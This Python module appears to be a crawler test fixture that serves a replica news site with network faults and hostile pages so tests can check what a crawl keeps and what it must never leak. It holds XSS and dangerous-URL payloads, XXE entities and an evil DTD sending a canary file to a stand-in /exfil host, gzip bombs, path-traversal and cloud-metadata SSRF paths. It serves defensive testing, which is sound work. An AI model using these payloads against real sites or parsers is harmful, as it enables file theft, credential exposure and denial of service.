"""The replica's fault and attack mode: a site that fails the way networks and hostile servers do.

``build_site(..., faults=NETWORK_FAULTS | HOSTILE_PAGES)`` switches faults on by name, any subset
(``FAULTS`` lists them all, each with a one-line description). Every article fault is carried by
an extra article of its own, so what a correct crawl does with it is known in advance:

- ``Fault.saved`` says whether the article must end up in the dataset. It must when any valid
  copy of it arrives: a transient fault that retries get past (``failures`` bad answers, then
  the page), or a page that is odd or hostile but readable. It may be lost only when no valid
  copy ever arrives (it redirects off the host, it is a gzip bomb, it vanished, it always fails);
  the crawl must then say so in its log and stats.
- Listing faults (``target == "listing"``) damage listing pages instead; every article must still
  be found, with a bounded number of requests.

``site.faults`` (a ``FaultPlan``) is the ground truth: which article carries which fault, the
other id serving a duplicate, the hostile inputs tried, the local canary file whose content must
never leak. ``site.expected_article_ids()`` takes ``Fault.saved`` into account.

Fault articles are listed and in the perv/next chain (except the vanishing ones, reachable only
from the listing that makes them vanish) and never in the new/hot lists. The site counts the
answers it gives per article, image and listing page, so transient faults are deterministic.
"""

from __future__ import annotations

import dataclasses
import email.utils
import functools
import gzip
import re
import time
import zlib
from dataclasses import dataclass
from pathlib import Path

from . import images
from .pages import Link, escape_attr, escape_text
from .wire import XML_CONTENT_TYPE, Response, Wire, redirect, status_page, xml_response

NETWORK = "network"
HOSTILE = "hostile"
ARTICLE = "article"
LISTING = "listing"


@dataclass(frozen=True)
class Fault:
    name: str
    group: str
    description: str
    saved: bool = True
    failures: int = 0
    """Bad answers before good ones (a transient fault); 0: every answer carries the fault."""
    target: str = ARTICLE


_CATALOGUE = (
    Fault("http_500", NETWORK, "500 twice, then the page", failures=2),
    Fault("http_502", NETWORK, "502 twice, then the page", failures=2),
    Fault("http_503", NETWORK, "503 twice, then the page", failures=2),
    Fault("http_429", NETWORK, "429 twice, then the page", failures=2),
    Fault("http_503_retry_after", NETWORK, "503 with Retry-After: 1 (seconds), then the page", failures=1),
    Fault("http_429_retry_after_date", NETWORK, "429 with Retry-After as an HTTP date 1 s ahead, then the page",
          failures=1),
    Fault("retry_after_huge", NETWORK, "503 with Retry-After: 86400, then the page", failures=1),
    Fault("http_503_forever", NETWORK, "503 on every request", saved=False),
    Fault("reset_mid_body", NETWORK, "a TCP reset half-way through the body, twice, then the page", failures=2),
    Fault("short_body", NETWORK, "half the body its Content-Length promises, then a FIN, twice", failures=2),
    Fault("stall_once", NETWORK, "no answer until past the download timeout, once, then the page", failures=1),
    Fault("trickle", NETWORK, "the body a twentieth at a time over about a second"),
    Fault("gzip", NETWORK, "Content-Encoding: gzip"),
    Fault("broken_gzip", NETWORK, "Content-Encoding: gzip on a body that is not gzip, once, then the page",
          failures=1),
    Fault("gzip_bomb", NETWORK, "Content-Encoding: gzip, 1 MiB that inflates to 1 GiB", saved=False),
    Fault("redirect_chain", NETWORK, "302, 301, 307 and 308 in a row, then the page"),
    Fault("redirect_loop", NETWORK, "redirects that come back to an earlier URL", saved=False),
    Fault("redirect_endless", NETWORK, "a redirect to a new URL every time", saved=False),
    Fault("redirect_off_host", NETWORK, "a redirect to another host name", saved=False),
    Fault("redirect_to_file", NETWORK, "a redirect to a file:// URL (the canary)", saved=False),
    Fault("duplicate_urls", NETWORK, "linked under five spellings, one of them another id serving the same page "
          "(saved under that id too: an article is the one its URL names)"),
    Fault("wrong_content_type", NETWORK, "served as image/jpeg"),
    Fault("wrong_charset", NETWORK, "UTF-8 with a Chinese headline, the header saying charset=iso-8859-1"),
    Fault("utf16_page", NETWORK, "UTF-16 with a byte order mark, the header saying charset=utf-8"),
    Fault("vanishing_404", NETWORK, "listed, then 404 by the time it is fetched", saved=False),
    Fault("vanishing_410", NETWORK, "listed, then 410 by the time it is fetched", saved=False),
    Fault("flaky_image", NETWORK, "its image resets mid-body twice, then is served"),
    Fault("self_linking_listing", NETWORK, "every listing page links to itself under a new URL each time",
          target=LISTING),
    Fault("pagination_repeats_last", NETWORK, "pages past the end repeat the last page instead of being empty",
          target=LISTING),
    Fault("flaky_listings", NETWORK, "listing pages 1, 2, 3 answer 503 with Retry-After, a reset, a short body once",
          target=LISTING),
    Fault("xxe_external_dtd", HOSTILE, "a DOCTYPE whose external DTD is the canary file"),
    Fault("xxe_parameter_entity", HOSTILE, "parameter entities loading a DTD from another host to send the canary out"),
    Fault("xxe_utf16", HOSTILE, "an external entity in a UTF-16 page, where a byte-level DOCTYPE filter is blind"),
    Fault("xxe_in_body", HOSTILE, "an external entity declared inside the CDATA body"),
    Fault("quadratic_blowup", HOSTILE, "one 50 kB entity referenced 10,000 times"),
    Fault("huge_page", HOSTILE, "a 20 MB page: filler after the article"),
    Fault("oversized_page", HOSTILE, "a Content-Length of 100 MiB, over DOWNLOAD_MAXSIZE", saved=False),
    Fault("oversized_stream", HOSTILE, "100 MiB in chunked transfer coding, no Content-Length", saved=False),
    Fault("deep_nesting", HOSTILE, "20,000 nested elements at the end of the body and after the article"),
    Fault("script_in_body", HOSTILE, "scripts, frames, SVG, styles, a base and a CDATA break-out in the body"),
    Fault("dangerous_urls", HOSTILE,
          "javascript:, data:, vbscript:, file: URLs and event handlers in links, images, the source, listings"),
    Fault("escaping_images", HOSTILE, "image URLs built to climb out of the mirror or collide on disk"),
    Fault("control_chars", HOSTILE, "C0 and C1 control characters and invalid character references"),
    Fault("invalid_utf8", HOSTILE, "byte sequences that are not UTF-8 in the headline and the body"),
    Fault("meta_refresh", HOSTILE, "served as text/html, a meta refresh to another host in the body"),
    Fault("off_site_image", HOSTILE, "a body image at a cloud-metadata path on a foreign host"),
    Fault("off_site_image_list", HOSTILE, "the image list naming a foreign host's metadata path"),
    Fault("off_site_relative_path", HOSTILE, "RelativePath on a foreign host, so the image list resolves there"),
    Fault("off_site_scheme_relative", HOSTILE, "a //host:port/ image on a foreign host"),
    Fault("off_site_idn", HOSTILE, "an image on an IDN host that maps to the foreign host's other name (localhost)"),
    Fault("off_site_redirect", HOSTILE, "a redirect to a foreign host's metadata path", saved=False),
    Fault("path_tricks", HOSTILE, "listing links and an image whose paths leave the section or reach print/ "
                                  "through dot segments and escaped separators"),
    Fault("image_url_spellings", HOSTILE, "images spelled with a space, non-ASCII and an IDN host (of localhost)"),
    # Pages that hung, crashed or misdirected the parser once (issue 11); what they serve is defined below.
    Fault("doctype_backtracking", HOSTILE,
          "a comment after the body holding <!DOCTYPE, forty [] and a [: a backtracking DOCTYPE regex never ends"),
    Fault("crash_urls", HOSTILE, "URLs urllib refuses (http://[x]/, //[::1, http://a]/) as links, images, image list "
          "entries, perv/next, a breadcrumb and the stylesheet"),
    Fault("non_text_encoding", HOSTILE, 'a page needing repair (a bare &) that declares encoding="hex"'),
    Fault("identity_spoof", HOSTILE, f"meta/@id naming another listed article, and site={'http://evil.test/phish'!r}"),
)

FAULTS: dict[str, Fault] = {fault.name: fault for fault in _CATALOGUE}
NETWORK_FAULTS = frozenset(fault.name for fault in _CATALOGUE if fault.group == NETWORK)
HOSTILE_PAGES = frozenset(fault.name for fault in _CATALOGUE if fault.group == HOSTILE)

HEADLINE_OVERRIDES = {
    "wrong_charset": "上海社会科学院 wrong charset test",
    "utf16_page": "上海社会科学院 UTF-16 test",
    "non_text_encoding": "Tom & Jerry in hex: a declared encoding that holds no text",
}
AUTHORS_OVERRIDES = {name: "" for name in ("xxe_external_dtd", "xxe_parameter_entity", "xxe_utf16",
                                           "quadratic_blowup")}
"""Their ``<h5>`` holds only entity references, which a safe parser leaves unresolved."""

_ERROR_STATUS = {"http_500": 500, "http_502": 502, "http_503": 503, "http_429": 429, "http_503_forever": 503}
_REDIRECT_CHAIN = (302, 301, 307, 308)
HUGE_RETRY_AFTER = 86400
GZIP_BOMB_BYTES = 1 << 30
HUGE_PAGE_BYTES = 20_000_000
OVERSIZED_BYTES = 100 << 20
NESTING_DEPTH = 20_000
DUPLICATE_ID_OFFSET = 900_000
VANISHING_STATUS = {"vanishing_404": 404, "vanishing_410": 410}
EVIL_DTD_PATH = "/evil.dtd"
HOSTILE_IMAGE_MARKER = "sasscrawl-hostile"
PWNED = "pwned"
"""In every script and handler payload: it must never reach a record."""

SCRIPT_PAYLOADS = (
    "<p>Script test<script>document.title='pwned-1'</script> ends here.</p>",
    "<SCRIPT SRC=//example.invalid/pwned-2.js></SCRIPT>",
    "<svg onload=\"alert('pwned-3')\"><script>alert('pwned-4')</script></svg>",
    "<iframe src=\"javascript:alert('pwned-5')\"></iframe>",
    "<object data=\"data:text/html,pwned-6\"></object>",
    "<style>p{background:url(javascript:alert('pwned-7'))}</style>",
    "<noscript><p title=\"</noscript><img src=javascript:alert('pwned-8')>\"></p></noscript>",
    "<form action=\"javascript:alert('pwned-9')\"><button formaction=\"javascript:alert(9)\">pwned-9</button></form>",
    "<math><mtext><script>alert('pwned-10')</script></mtext></math>",
    "<template><script>alert('pwned-11')</script></template>",
    "<base href=\"javascript:alert('pwned-12')//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('pwned-13')\">",
    "]]><script>alert('pwned-14')</script><![CDATA[<p>After the break-out.</p>",
)
"""The last one closes the CDATA section early: the ``<script>`` then sits in the XML itself."""

DANGEROUS_URLS = (
    "javascript:alert('pwned-21')", " JaVaScRiPt:alert('pwned-22')", "java\tscript:alert('pwned-23')",
    "\njavascript:alert('pwned-24')", "vbscript:msgbox('pwned-25')", "data:text/html;base64,cHduZWQtMjY=",
    "data:image/svg+xml,<svg onload=alert('pwned-27')>", "jar:http://example.invalid/pwned-28!/",
    "http://127.0.0.1:99999/pwned-29", "http://127.0.0.1@example.invalid/pwned-30", "file://{canary}",
)
"""In ``<a href>`` and ``<img src>`` in the body; the first, the sixth and the canary also in the image
list; the first as the source link. A tab or newline inside ``javascript:`` is dropped by browsers."""
_IMAGE_LIST_URLS = (0, 5, -1)

HANDLER_PAYLOADS = (
    "<p><a href=\"&#106;avascript:alert('pwned-36')\">entity-encoded scheme</a></p>",
    "<p onclick=\"alert('pwned-31')\" onmouseover=\"alert('pwned-32')\" "
    "style=\"background:url(javascript:alert('pwned-33'))\">Handlers paragraph.</p>",
    "<p><a href=\"http://example.invalid/fine\" onclick=\"alert('pwned-34')\">A fine link</a> "
    "<span onfocus=\"alert('pwned-35')\" tabindex=\"1\">and a span.</span></p>",
)

LISTING_LINKS = (
    "javascript:alert('pwned-41')", "data:text/html,pwned-42", "file://{canary}", "ftp://{host}/{section}/1.aspx",
    "//{other_host}/{section}/default.aspx?page=2", "http://{other_host}/{section}/default.aspx",
    "mailto:pwned-43@example.invalid",
)
"""On listing page 1 with ``dangerous_urls``: none may be fetched."""

ESCAPING_IMAGE_PATHS = (
    "/upload/{m}/../../../../../../../../../../tmp/{m}-dotdot.jpeg",
    "/upload/{m}/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/tmp/{m}-encoded-dotdot.jpeg",
    "/upload/{m}/..%2f..%2f..%2f..%2f..%2f..%2ftmp%2f{m}-encoded-slash.jpeg",
    "/upload/{m}/..%5c..%5c..%5c..%5c{m}-backslash.jpeg",
    "/upload/{m}/%2e%2e",
    "/upload/{m}/{m}-nul%00.jpeg",
    "/upload/{m}/" + "n" * 300 + "-{m}-long.jpeg",
    "/upload/{m}/" + "/".join(["d" * 200] * 25) + "/{m}-deep.jpeg",
    "/upload/{m}/{m}-case.jpeg",
    "/upload/{m}/{m}-CASE.jpeg",
    "/upload/{m}/{m}-query.jpeg?v=1",
    "/upload/{m}/{m}-query.jpeg?v=2",
    "/upload/{m}/{m}-query.jpeg@v=1",
    "/upload/{m}/{m}-query.jpeg?../../../../../tmp/{m}-query",
    "/upload/{m}/{m}-semi;x.jpeg",
    "/upload/{m}/{m}-semi%3Bx.jpeg",
    "/upload/{m}/{m}-tilde~x.jpeg",
    "/upload/{m}/{m}-tilde%7ex.jpeg",
    "/upload/{m}/{m}-part.jpeg",
    "/upload/{m}/.{m}-part.jpeg.part",
    "http://{host}@{other_host}/upload/{m}/{m}-userinfo.jpeg",
)
"""Image ``src``s of the escaping_images article (``{m}``: ``HOSTILE_IMAGE_MARKER``).

Escapes: dot segments plain, percent-encoded, with encoded slashes and backslashes; NUL; names and
paths over the file system's limits; a query that climbs. Collisions: case, queries, a literal
``@`` (the mirror's query mark), ``;`` against ``%3B`` (different resources), ``~`` against ``%7e``
(the same resource), a name against its own temporary-file name. And a user-info host trick.
"""

FOREIGN_SECRET = b"SASSCRAWL-FOREIGN-SECRET-7d2a"
"""In every answer of the foreign host (``ForeignSite``): it must never reach the data folder."""
METADATA_PATH = "/latest/meta-data/iam/security-credentials/"
IDN_LOCALHOST = "ⓛⓞⓒⓐⓛⓗⓞⓢⓣ"
"""UTS 46 maps it to ``localhost``: an IDN spelling of a host that is not the one it looks like."""
PATH_TRICK_LINKS = (
    "/{section}/..%5C..%5C104/default.aspx",
    "/{section}/..;/104/default.aspx",
    "/{section}/x/..%2Fprint/{id}.aspx",
    "/{section}/%2e%2e/104/default.aspx",
    "/{section}/..\\..\\104\\default.aspx",
    "/{section}/x/%252e%252e/print/{id}.aspx",
    "/{section}//print/{id}.aspx",
)
"""On listing page 1 with path_tricks (``{id}``: its article). Read by a server that decodes escapes (IIS does),
each leaves the section or lands on the print copy robots.txt disallows."""
PATH_TRICK_IMAGE = "/upload/x/..%2F..%2F{section}/print/{id}.aspx"
SPELLING_IMAGE_MARKER = "sasscrawl-spelling"
SPELLING_IMAGES = (
    "/upload/{m}/a b.jpeg",
    "/upload/{m}/图片.jpeg",
    "http://" + IDN_LOCALHOST + ":{port}/upload/{m}/idn.jpeg",
)
"""Image ``src``s of the image_url_spellings article: each is sent under another spelling than the page's."""

_CONTROLS = "\x01\x1b\x7f\x9b\x85"
_INVALID_REFERENCES = "&#xD800;&#x1b;&#0;&#xFFFE;&#xDFFF;"
CONTROL_PAYLOADS = (
    f"raw controls in the headline: {_CONTROLS!r}",
    f"raw controls in the byline: {_CONTROLS!r}",
    f"invalid character references in the subtitle: {_INVALID_REFERENCES}",
    f"raw controls and NUL in the body: {_CONTROLS + chr(0)!r}",
    f"invalid character references in the body: {_INVALID_REFERENCES}",
)
INVALID_UTF8 = (b"\xff", b"\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\xe4\xb8", b"\xc3\x28", b"\xf0\x28\x8c\x28")
"""Lone bytes, an overlong '/', an encoded surrogate, a truncated sequence, bad continuations."""

_INVALID_RUN = b" ".join(INVALID_UTF8)

BACKTRACKING_COMMENT = "<!-- <!DOCTYPE" + "[]" * 40 + "[ -->"
"""After the CDATA body: the exact page part that made the parser's old DOCTYPE regex backtrack forever."""
CRASH_URLS = ("http://[x]/", "//[::1", "http://a]/")
"""URLs ``urlparse`` raises ValueError on: a bad IPv6 literal, an unclosed one, a stray bracket."""
NON_TEXT_ENCODING = "hex"
SPOOF_SITE = "http://evil.test/phish"
"""The identity_spoof page's ``site``: the old parser built the record's URL from it."""


@dataclass(frozen=True)
class FaultPlan:
    """Ground truth of the faults switched on, for tests to compare a crawl with."""

    names: frozenset[str]
    article_ids: dict[str, int]
    """Article fault → id of the article that carries it."""
    duplicate_id: int | None
    """With ``duplicate_urls``: another id whose page is that article's page. An article is the one its
    URL names, so a correct crawl saves the page under this id too, with this id's URL."""
    flaky_image_path: str | None
    canary_path: str
    """A local file whose content must never reach the dataset, the log or the server."""
    stall_seconds: float
    spoofed_id: int | None = None
    """With ``identity_spoof``: the other article whose id the spoof page's ``meta/@id`` names."""
    foreign_host: str | None = None
    """``host:port`` the off-site faults point at (a ``ForeignSite`` server); None: the replica's own other name."""

    def foreign(self, other_host: str) -> str:
        """Where the off-site faults point: ``foreign_host``, or else the replica's other name ``other_host``."""
        return self.foreign_host or other_host

    @property
    def saved_ids(self) -> set[int]:
        return {article_id for name, article_id in self.article_ids.items() if FAULTS[name].saved}

    @property
    def lost_ids(self) -> set[int]:
        return {article_id for name, article_id in self.article_ids.items() if not FAULTS[name].saved}

    def expected_headline(self, name: str, headline: str) -> str:
        """The headline a correct parser reads from the article carrying ``name``."""
        if name == "invalid_utf8":
            return " ".join((headline + " " + _INVALID_RUN.decode("utf-8", "replace")).split())
        return headline

    def escaping_image_urls(self, origin_host: str, other_host: str) -> list[str]:
        """The absolute URLs of the escaping_images article's images, as its page spells them."""
        return [_absolute(path.format(m=HOSTILE_IMAGE_MARKER, host=origin_host, other_host=other_host), origin_host)
                for path in ESCAPING_IMAGE_PATHS]

    def hostile_inputs(self) -> dict[str, tuple[str, ...]]:
        """Each hostile fault switched on → the payloads it serves (one description for single ones)."""
        payloads = {
            "script_in_body": SCRIPT_PAYLOADS,
            "dangerous_urls": DANGEROUS_URLS + HANDLER_PAYLOADS + LISTING_LINKS,
            "escaping_images": ESCAPING_IMAGE_PATHS,
            "control_chars": CONTROL_PAYLOADS,
            "invalid_utf8": tuple(repr(sequence) for sequence in INVALID_UTF8),
            "deep_nesting": ("nesting at the end of the CDATA body", "nesting in the XML after the article"),
            "path_tricks": (*PATH_TRICK_LINKS, PATH_TRICK_IMAGE),
            "image_url_spellings": SPELLING_IMAGES,
            "crash_urls": CRASH_URLS,
            "identity_spoof": ("meta/@id of another article", f"site {SPOOF_SITE}"),
        }
        return {name: payloads.get(name, (FAULTS[name].description,))
                for name in sorted(self.names) if FAULTS[name].group == HOSTILE}


def _absolute(href: str, host: str) -> str:
    return href if href.startswith("http://") else f"http://{host}{href}"


def unreserved_key(path_with_query: str) -> str:
    """A URL as an RFC 3986 server sees it: escapes of unreserved characters decoded, hex upper-cased.

    So ``~`` and ``%7e`` name one resource, while ``;`` and ``%3B`` (reserved) name two.
    """
    def fix(match: re.Match) -> str:
        char = chr(int(match[1], 16))
        return char if char.isascii() and (char.isalnum() or char in "-._~") else "%" + match[1].upper()
    return re.sub(r"%([0-9A-Fa-f]{2})", fix, path_with_query)


def hostile_image(seed: int, path_with_query: str) -> Response:
    """A real JPEG for any URL with the hostile marker, its pixels drawn from the URL (RFC-normalised)."""
    content_type, data = images.render_image(seed, unreserved_key(path_with_query))
    return Response(200, [("Content-Type", content_type)], data)


class ForeignSite:
    """A foreign host for ``ReplicaServer``: whatever it is asked, it answers 200 with ``FOREIGN_SECRET``.

    Served on another port, it stands for every host a crawl of the section must never contact (a
    cloud metadata service, an intranet): a test reads its request log, which must stay empty.
    """

    def response(self, method: str, path_with_query: str, host: str) -> Response:
        if path_with_query == "/robots.txt":
            return Response(200, [("Content-Type", "text/plain")], b"User-agent: *\nAllow: /\n")
        return Response(200, [("Content-Type", "image/jpeg")], FOREIGN_SECRET + b" " + path_with_query.encode())


def evil_dtd(host: str) -> Response:
    """The external DTD an XXE would load: it would define an entity sending the canary to /exfil."""
    dtd = f"<!ENTITY % all \"<!ENTITY send SYSTEM 'http://{host}/exfil?%file;'>\">\n%all;\n"
    return Response(200, [("Content-Type", "application/xml-dtd")], dtd.encode())


def image_response(attempt: int, good: Response) -> Response:
    """The flaky image: reset mid-body for the first answers."""
    if attempt <= FAULTS["flaky_image"].failures:
        return dataclasses.replace(good, wire=Wire(cut_after=len(good.body) // 2, reset=True))
    return good


def listing_response(plan: FaultPlan, number: int, attempt: int, good: Response) -> Response:
    """flaky_listings: pages 1, 2 and 3 fail their first answer, each its own way."""
    if "flaky_listings" not in plan.names or attempt > 1 or number > 3:
        return good
    if number == 1:
        return status_page(503, [("Retry-After", "1")])
    return dataclasses.replace(good, wire=Wire(cut_after=len(good.body) // 2, reset=number == 2))


def listing_links(plan: FaultPlan, section: str, number: int, visit: int, host: str,
                  other_host: str) -> tuple[Link, ...]:
    """Extra links of listing page ``number``: duplicates, dangerous URLs, path tricks, the endless self-link."""
    links = []
    if number == 1 and "duplicate_urls" in plan.names:
        article_id = plan.article_ids["duplicate_urls"]
        links += [Link(href, "Duplicate") for href in (
            f"{article_id}.aspx?from=duplicate", f"/{section}/{article_id}.ASPX", f"/{section}/00{article_id}.aspx",
            f"http://{host}/{section}/{article_id}.aspx#top", f"/{section}/{plan.duplicate_id}.aspx")]
    if number == 1 and "dangerous_urls" in plan.names:
        links += [Link(href.format(canary=plan.canary_path, host=host, other_host=other_host, section=section),
                       "Dangerous") for href in LISTING_LINKS]
    if number == 1 and "path_tricks" in plan.names:
        links += [Link(href.format(section=section, id=plan.article_ids["path_tricks"]), "Trick")
                  for href in PATH_TRICK_LINKS]
    if "self_linking_listing" in plan.names:
        links.append(Link(f"default.aspx?page={number}&visit={visit}", "This page again"))
    return tuple(links)


def article_response(plan: FaultPlan, name: str, xml: str, attempt: int, query: dict[str, list[str]],
                     path: str, host: str, other_host: str) -> Response:
    """The page of the article carrying fault ``name``, on its ``attempt``-th request."""
    fault = FAULTS[name]
    if fault.failures and attempt > fault.failures:
        return xml_response(xml)
    canary = Path(plan.canary_path).as_uri()
    match name:
        case "http_500" | "http_502" | "http_503" | "http_429" | "http_503_forever":
            return status_page(_ERROR_STATUS[name])
        case "http_503_retry_after":
            return status_page(503, [("Retry-After", "1")])
        case "http_429_retry_after_date":
            return status_page(429, [("Retry-After", email.utils.formatdate(time.time() + 1, usegmt=True))])
        case "retry_after_huge":
            return status_page(503, [("Retry-After", str(HUGE_RETRY_AFTER))])
        case "reset_mid_body" | "short_body":
            data = xml.encode()
            return xml_response(xml, wire=Wire(cut_after=len(data) // 2, reset=name == "reset_mid_body"))
        case "stall_once":
            return xml_response(xml, delay=plan.stall_seconds)
        case "trickle":
            return xml_response(xml, wire=Wire(trickle=(len(xml.encode()) // 20 + 1, 0.04)))
        case "gzip":
            return Response(200, [("Content-Type", XML_CONTENT_TYPE), ("Content-Encoding", "gzip")],
                            gzip.compress(xml.encode()))
        case "broken_gzip":
            return Response(200, [("Content-Type", XML_CONTENT_TYPE), ("Content-Encoding", "gzip")], xml.encode())
        case "gzip_bomb":
            return Response(200, [("Content-Type", XML_CONTENT_TYPE), ("Content-Encoding", "gzip")], _gzip_bomb())
        case "redirect_chain":
            hop = _number(query, "hop")
            if hop < len(_REDIRECT_CHAIN):
                return redirect(_REDIRECT_CHAIN[hop], f"{path}?hop={hop + 1}")
            return xml_response(xml)
        case "redirect_loop":
            return redirect(302, f"{path}?loop={_number(query, 'loop') % 2 + 1}")
        case "redirect_endless":
            return redirect(302, f"{path}?hop={_number(query, 'hop') + 1}")
        case "redirect_off_host":
            return redirect(302, f"http://{other_host}{path}")
        case "redirect_to_file":
            return redirect(302, canary)
        case "wrong_content_type":
            return xml_response(xml, content_type="image/jpeg")
        case "wrong_charset":
            return xml_response(xml, content_type="text/html; charset=iso-8859-1")
        case "utf16_page":
            return Response(200, [("Content-Type", XML_CONTENT_TYPE)], _utf16(xml))
        case "xxe_external_dtd":
            return xml_response(with_doctype(xml, f'<!DOCTYPE html SYSTEM "{canary}">', "&ext;"))
        case "xxe_parameter_entity":
            doctype = (f'<!DOCTYPE html [\n<!ENTITY % file SYSTEM "{canary}">\n'
                       f'<!ENTITY % remote SYSTEM "http://{other_host}{EVIL_DTD_PATH}">\n%remote;\n]>')
            return xml_response(with_doctype(xml, doctype, "&send;"))
        case "xxe_utf16":
            doctype = f'<!DOCTYPE html [<!ENTITY xxe SYSTEM "{canary}">]>'
            return Response(200, [("Content-Type", XML_CONTENT_TYPE)], _utf16(with_doctype(xml, doctype, "&xxe;")))
        case "xxe_in_body":
            entity = f'<!DOCTYPE html [<!ENTITY inbody SYSTEM "{canary}">]><p>&inbody;</p>'
            return xml_response(xml.replace("<![CDATA[", "<![CDATA[" + entity, 1))
        case "quadratic_blowup":
            doctype = f'<!DOCTYPE html [<!ENTITY a "{"A" * 50_000}">]>'
            return xml_response(with_doctype(xml, doctype, "&a;" * 10_000))
        case "huge_page":
            filler_item = "<i>" + "filler " * 12 + "</i>"
            filler = f'<div id="filler">{filler_item * (HUGE_PAGE_BYTES // len(filler_item))}</div>\n\t\t'
            return xml_response(_after_article(xml, filler))
        case "oversized_page" | "oversized_stream":
            return xml_response(xml, wire=Wire(filler=OVERSIZED_BYTES, chunked=name == "oversized_stream"))
        case "deep_nesting":
            nested_body = "<div>" * NESTING_DEPTH + "<p>Deep inside.</p>" + "</div>" * NESTING_DEPTH
            nested_page = "<div>" * NESTING_DEPTH + "</div>" * NESTING_DEPTH + "\n\t\t"
            return xml_response(_after_article(_end_of_body(xml, nested_body), nested_page))
        case "script_in_body":
            return xml_response(_end_of_body(xml, "".join(SCRIPT_PAYLOADS)))
        case "dangerous_urls":
            return xml_response(_dangerous(xml, canary))
        case "escaping_images":
            figures = "".join(f'<p><img src="{escape_attr(url)}" /></p>'
                              for url in plan.escaping_image_urls(host, other_host))
            return xml_response(_end_of_body(xml, figures))
        case "control_chars":
            return xml_response(_control_chars(xml))
        case "invalid_utf8":
            return Response(200, [("Content-Type", XML_CONTENT_TYPE)], _invalid_utf8(xml))
        case "off_site_image" | "off_site_scheme_relative" | "off_site_idn" | "image_url_spellings" | "path_tricks":
            return xml_response(_end_of_body(xml, _extra_body(plan, name, path, host, other_host)))
        case "off_site_image_list":
            list_item = f"<li>http://{plan.foreign(other_host)}{METADATA_PATH}list.jpeg</li>"
            return xml_response(xml.replace("<li />", list_item, 1))
        case "off_site_redirect":
            return redirect(302, f"http://{plan.foreign(other_host)}{METADATA_PATH}{Path(path).name}")
        case "off_site_relative_path":
            xml = xml.replace('RelativePath="/"', f'RelativePath="http://{plan.foreign(other_host)}{METADATA_PATH}"', 1)
            return xml_response(xml.replace("<li />", "<li>relative.jpeg</li>", 1))
        case "meta_refresh":
            refresh = f'<meta http-equiv="refresh" content="0; url=http://{other_host}{path}">'
            return xml_response(xml.replace("<![CDATA[", "<![CDATA[" + refresh, 1),
                                content_type="text/html; charset=utf-8")
        case "doctype_backtracking":
            return xml_response(xml.replace("]]></p>", "]]></p>" + BACKTRACKING_COMMENT, 1))
        case "crash_urls":
            return xml_response(_crash_urls(xml))
        case "non_text_encoding":
            return xml_response(xml.replace('encoding="utf-8"', f'encoding="{NON_TEXT_ENCODING}"', 1)
                                .replace("&amp;", "&", 1))
        case "identity_spoof":
            _, section, own_page = path.split("/")
            return xml_response(xml.replace(f'<meta id="{own_page.removesuffix(".aspx")}"',
                                            f'<meta id="{plan.spoofed_id}"', 1)
                                .replace(f' site="{section}"', f' site="{SPOOF_SITE}"', 1))
    return xml_response(xml)


def _extra_body(plan: FaultPlan, name: str, path: str, host: str, other_host: str) -> str:
    """The images the off-site, path trick and spelling faults add to an article's body."""
    foreign = plan.foreign(other_host)
    section, article_id = path.strip("/").removesuffix(".aspx").split("/")
    images = {
        "off_site_image": [f"http://{foreign}{METADATA_PATH}body.jpeg"],
        "off_site_scheme_relative": [f"//{foreign}{METADATA_PATH}scheme-relative.jpeg"],
        "off_site_idn": [f"http://{IDN_LOCALHOST}:{foreign.rpartition(':')[2]}{METADATA_PATH}idn.jpeg"],
        "image_url_spellings": [src.format(m=SPELLING_IMAGE_MARKER, port=host.rpartition(":")[2])
                                for src in SPELLING_IMAGES],
        "path_tricks": [PATH_TRICK_IMAGE.format(section=section, id=article_id)],
    }[name]
    return "".join(f'<p><img src="{escape_attr(src)}" /></p>' for src in images)


def _number(query: dict[str, list[str]], name: str) -> int:
    value = query.get(name, ["0"])[0]
    return int(value) if value.isdecimal() else 0


def _utf16(xml: str) -> bytes:
    return xml.replace('encoding="utf-8"', 'encoding="utf-16"', 1).encode("utf-16")


def with_doctype(xml: str, doctype: str, h5: str) -> str:
    """Put ``doctype`` before ``<html`` and ``h5`` (entity references) in the empty byline."""
    return xml.replace("<h5 />", f"<h5>{h5}</h5>", 1).replace("<html ", f"{doctype}\n<html ", 1)


def _end_of_body(xml: str, html: str) -> str:
    """Append ``html`` to the CDATA body."""
    start = xml.index("<![CDATA[")
    end = xml.index("]]>", start)
    return xml[:end] + html + xml[end:]


def _after_article(xml: str, markup: str) -> str:
    """Insert ``markup`` after the article, before the sidebars."""
    return xml.replace('<ul id="new"', markup + '<ul id="new"', 1)


def _dangerous(xml: str, canary: str) -> str:
    """Dangerous URLs as body links and images, in the image list's empty slots and as the source link."""
    urls = [url.format(canary=canary.removeprefix("file://")) for url in DANGEROUS_URLS]
    links = " ".join(f'<a href="{escape_attr(url)}">link</a> <img src="{escape_attr(url)}" />' for url in urls)
    xml = _end_of_body(xml, f"<p>Dangerous: {links}</p>" + "".join(HANDLER_PAYLOADS))
    for index in _IMAGE_LIST_URLS:
        xml = xml.replace("<li />", f"<li>{escape_text(urls[index])}</li>", 1)
    byline = xml.index("<h5")
    body = xml.index("<p><![CDATA[", byline)
    source = xml.find('<a href="', byline, body)
    dangerous_source = f'<a href="{escape_attr(urls[0])}">'
    if source < 0:
        return xml[:body] + dangerous_source + "Source</a>\n\t\t\t" + xml[body:]
    return xml[:source] + dangerous_source + xml[xml.index('">', source) + 2:]


def _control_chars(xml: str) -> str:
    start = xml.index("<h1>") + len("<h1>")
    space = xml.index(" ", start) + 1
    xml = xml[:space] + _CONTROLS + xml[space:]
    xml = re.sub(r"<h5>([^<]*?) ", lambda m: f"<h5>{m[1]} {_CONTROLS}", xml, count=1)
    xml = xml.replace("<h2 />", f"<h2>{_INVALID_REFERENCES}</h2>", 1)
    return _end_of_body(xml, f"<p>Control{_CONTROLS}\x00 characters {_INVALID_REFERENCES} in the body.</p>")


def _invalid_utf8(xml: str) -> bytes:
    data = xml.encode()
    headline_end = data.index(b"</h1>")
    data = data[:headline_end] + b" " + _INVALID_RUN + data[headline_end:]
    body_end = data.index(b"]]>")
    return data[:body_end] + b"<p>Broken " + _INVALID_RUN + b" bytes.</p>" + data[body_end:]


def _crash_urls(xml: str) -> str:
    """``CRASH_URLS`` in the body's links and images, first in the image list, the first perv and
    next links (before the real ones, which keep the chain whole), a breadcrumb and the stylesheet."""
